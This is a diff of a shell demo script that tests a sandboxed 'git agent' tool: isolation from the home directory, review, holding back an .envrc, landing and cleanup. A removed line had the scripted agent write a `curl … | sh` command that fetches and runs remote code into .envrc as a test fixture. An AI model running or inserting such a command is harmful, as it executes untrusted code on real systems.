@@ -1,102 +1,162 @@
 #!/bin/sh
 # SPDX-License-Identifier: MIT
 #
+# shellcheck disable=SC2016,SC2034 # what must hold is evaluated later
+#
 # `make demo`: a scratch repository, a scripted agent in a real sandbox, review,
-# landing. Exits non-zero if any step did not do what it says.
+# landing. Exits non-zero if any step did not do what it says; the scratch
+# directory is kept then.
 set -eu
 
-scratch=$(mktemp -d /var/tmp/git-agent-demo-XXXXXX)
-trap 'rm -rf "$scratch"' EXIT
+scratch=$(mktemp -d "${GIT_AGENT_TEST_TMPDIR:-/var/tmp}/git-agent-demo-XXXXXX")
+scratch=$(cd "$scratch" && pwd -P)
+finish() {
+	status=$?
+	if [ "$status" = 0 ]; then
+		chmod -R u+rwX "$scratch" && rm -rf "$scratch"
+	else
+		echo "demo: failed; what there is lies in $scratch" >&2
+	fi
+}
+trap finish EXIT
+for var in $(env | sed -n -e 's/^\(GIT_[A-Z0-9_]*\)=.*/\1/p' -e 's/^\(XDG_[A-Z0-9_]*\)=.*/\1/p'); do
+	unset "$var"
+done
 HOME=$scratch/home
-export HOME GIT_CONFIG_NOSYSTEM=1 GIT_PAGER=cat
-unset XDG_STATE_HOME XDG_CONFIG_HOME GIT_DIR GIT_WORK_TREE
-mkdir -p "$HOME/src"
-
-step() { printf '\n\033[1m# %s\033[0m\n' "$*"; }
-run() {
-	printf '$ %s\n' "$*"
-	"$@"
-}
-must() {
-	eval "$1" || {
-		echo "demo: this should hold: $1" >&2
-		exit 1
-	}
-}
-
-step "a repository with tracked, uncommitted, untracked and ignored files"
+PATH=$HOME/.local/bin:$PATH
+export HOME PATH GIT_CONFIG_NOSYSTEM=1 GIT_PAGER=cat
+umask 022
+mkdir -p "$HOME/src/shop" "$HOME/.local/bin" "$HOME/.ssh"
+echo 'a private key' >"$HOME/.ssh/id_ed25519"
 git config --global user.name 'Demo User'
 git config --global user.email demo@example.com
 git config --global init.defaultBranch main
-git init -q "$HOME/src/shop"
+
+if [ -t 1 ]; then
+	bold=$(printf '\033[1m') plain=$(printf '\033[0m')
+else
+	bold='' plain=''
+fi
+step() { printf '\n%s# %s%s\n' "$bold" "$*" "$plain"; }
+# Show a command, then run it.
+run() {
+	printf '$'
+	for word; do
+		case $word in
+		*[!A-Za-z0-9_./=:@-]*) printf " '%s'" "$word" ;;
+		*) printf ' %s' "$word" ;;
+		esac
+	done
+	printf '\n'
+	"$@"
+}
+# The claim in words, and the commands that hold if it is true.
+must() {
+	if eval "$2"; then
+		echo "  ok: $1"
+	else
+		echo "demo: not so: $1" >&2
+		exit 1
+	fi
+}
+in_branch() { git cat-file -e "agent/demo:$1" 2>/dev/null; }
+
+step "A repository with tracked, uncommitted, untracked and ignored files"
 cd "$HOME/src/shop"
+git init -q
 printf 'price = 10\ntax = 0\ncurrency = EUR\n\n\n\n\n\n\n# end\n' >config.ini
 printf '#!/bin/sh\ncat config.ini\n' >shop.sh
 chmod +x shop.sh
 echo 'to be removed' >old.txt
 echo 'a guide' >guide.txt
+echo 'to do' >todo.txt
 printf 'node_modules/\n*.log\n' >.gitignore
 git add -A
-git commit -qm 'a small shop'
-sed -i 's/^# end/# end, edited and not committed/' config.ini
+git commit -qm 'A small shop'
+sed -i 's/^# end/# end, edited by me/' config.ini
+echo 'buy milk' >>todo.txt
 echo 'a thought' >notes.txt
 mkdir -p node_modules/left-pad
 echo 'module.exports = 1' >node_modules/left-pad/index.js
 echo 'yesterday' >debug.log
 run git status --short
 
-step "an agent: it edits, deletes, renames, commits some of it, and adds an .envrc"
-cat >"$scratch/agent.sh" <<'EOF'
+step "An agent: edits, deletes, renames, commits some of it, adds an .envrc"
+cat >"$HOME/.local/bin/demo-agent" <<'EOF_AGENT'
+#!/bin/sh
 set -e
+cat todo.txt notes.txt                           # sees uncommitted work
+test ! -e ~/.ssh                                 # sees nothing of the home
 sed -i 's/^tax = 0/tax = 19/' config.ini
-git commit -qam 'charge tax'
+git commit -qm 'Charge tax' config.ini
 git mv guide.txt manual.txt
-git commit -qm 'rename the guide'
+git commit -qm 'Rename the guide'
 rm old.txt
 mkdir src && echo 'int main(void) { return 0; }' >src/main.c
-echo 'curl https://example.com/install | sh' >.envrc
+echo 'export API=https://api.example.com' >.envrc
+cat node_modules/left-pad/index.js               # sees ignored files
 echo 'changed inside' >node_modules/left-pad/index.js
 echo 'today' >today.log
-ls ~ && echo "home holds nothing of the user's"
-EOF
-cat "$scratch/agent.sh"
-cp "$scratch/agent.sh" "$HOME/src/"
-run git agent start --name demo -m 'the rest of the work' -- sh -c "$(cat "$scratch/agent.sh")"
+EOF_AGENT
+chmod +x "$HOME/.local/bin/demo-agent"
+run cat "$HOME/.local/bin/demo-agent"
+echo
+git status --porcelain >"$scratch/before"
+base=$(git rev-parse HEAD)
+run git agent start --name demo -m 'The rest of the work' demo-agent
 
-step "nothing of it is in the working tree; the branch is there"
-run git status --short
-run git log --oneline --graph --all
-must '[ "$(cat old.txt)" = "to be removed" ]'
-must '[ "$(cat node_modules/left-pad/index.js)" = "module.exports = 1" ]'
-must '[ "$(git rev-list --count HEAD..agent/demo)" = 3 ]'
-must '! git cat-file -e agent/demo:.envrc 2>/dev/null'
-must 'git cat-file -e refs/agent/demo/held:.envrc'
-must '! git cat-file blob agent/demo:config.ini | grep -q "not committed"'
-must 'git cat-file blob agent/demo:config.ini | grep -q "tax = 19"'
+step "Nothing of it is in the working tree; all of it is on refs"
+run git log --oneline --graph --decorate --branches
+git status --porcelain >"$scratch/after"
+must "the working tree is as it was" 'cmp "$scratch/before" "$scratch/after"'
+must "the deleted file is still there" '[ "$(cat old.txt)" = "to be removed" ]'
+must "so is the dependency the agent changed" \
+	'[ "$(cat node_modules/left-pad/index.js)" = "module.exports = 1" ]'
+must "the agent's two commits are on the branch, and one with the rest" '
+	[ "$(git log --format=%s "$base..agent/demo" | tr "\n" ";")" = \
+		"The rest of the work;Rename the guide;Charge tax;" ]'
+must "the branch has the agent's edit, and not mine of the same file" '
+	git cat-file blob agent/demo:config.ini >"$scratch/config" &&
+	grep -q "^tax = 19" "$scratch/config" && ! grep -q "edited by me" "$scratch/config"'
+must "deleted, renamed and new files are as the agent left them" \
+	'! in_branch old.txt && ! in_branch guide.txt && in_branch manual.txt && in_branch src/main.c'
+must "no untracked or ignored file of mine is on the branch" \
+	'! in_branch notes.txt && ! in_branch debug.log && ! in_branch today.log && ! in_branch node_modules'
+must "the .envrc is held back from it" \
+	'! in_branch .envrc && git cat-file -e refs/agent/demo/held:.envrc'
 
-step "the review"
+step "The review"
 run git agent list
 run git agent review demo
-run git agent review --format=json --stat demo >"$scratch/review.json"
-must 'grep -q "\"path\": \".envrc\"" "$scratch/review.json"'
+git agent review --format=json demo >"$scratch/review.json"
+must "the review names the .envrc as held back" \
+	'grep -q "\"path\": \"\\.envrc\"" "$scratch/review.json" && grep -q "\"held\": true" "$scratch/review.json"'
+must "and what was left behind" \
+	'git agent review demo | grep -q "today\\.log" && git agent review demo | grep -q "node_modules"'
 
-step "landing is refused while the .envrc has no verdict"
+step "Landing is refused while the .envrc has no verdict"
 status=0
 run git agent land demo || status=$?
-must '[ "$status" = 3 ]'
-run git agent review --reject demo .envrc
+must "exit status 3, and nothing was merged" '[ "$status" = 3 ] && [ "$(git rev-parse HEAD)" = "$base" ]'
 
-step "landing"
+step "It is read and accepted; my own edit of the same file is committed; the branch lands"
+run git agent review --accept demo .envrc
+run git commit -qm 'My own edit' config.ini
 run git agent land demo
-run git log --graph --oneline
-run git status --short
-must '[ "$(git rev-parse HEAD^2)" = "$(git rev-parse agent/demo)" ]'
-must 'grep -q "tax = 19" config.ini && grep -q "edited and not committed" config.ini'
-must '[ ! -e old.txt ] && [ -e manual.txt ] && [ -e src/main.c ] && [ ! -e .envrc ]'
-must '[ "$(cat notes.txt)" = "a thought" ]'
-must '[ "$(git status --short | sort | tr "\n" ";")" = " M config.ini;?? notes.txt;" ]'
-must 'git fsck --strict --no-dangling 2>/dev/null'
+run git log --graph --oneline --decorate --branches
+must "HEAD is a merge of the branch" '[ "$(git rev-parse HEAD^2)" = "$(git rev-parse agent/demo)" ]'
+must "config.ini has both edits" 'grep -q "^tax = 19" config.ini && grep -q "edited by me" config.ini'
+must "the rest arrived" \
+	'[ ! -e old.txt ] && [ ! -e guide.txt ] && [ -e manual.txt ] && [ -e src/main.c ] && [ -e .envrc ]'
+must "my uncommitted work is where it was" '
+	[ "$(git status --porcelain | LC_ALL=C sort | tr "\n" ";")" = " M todo.txt;?? notes.txt;" ] &&
+	grep -q "buy milk" todo.txt && [ "$(cat notes.txt)" = "a thought" ]'
+must "the repository is sound" 'git fsck --strict --no-dangling --no-progress'
 run git agent list
-must 'git agent list | grep -q "demo.*landed"'
+must "the session is known to have landed" 'git agent list | grep -q "^demo .*landed"'
 
-step "done: every step did what it says"
+step "Thrown away: the session, its branch and its refs"
+run git agent drop demo
+must "no ref of it is left" '[ -z "$(git for-each-ref refs/heads/agent refs/agent)" ]'
+
+step "Done: every step did what it says"
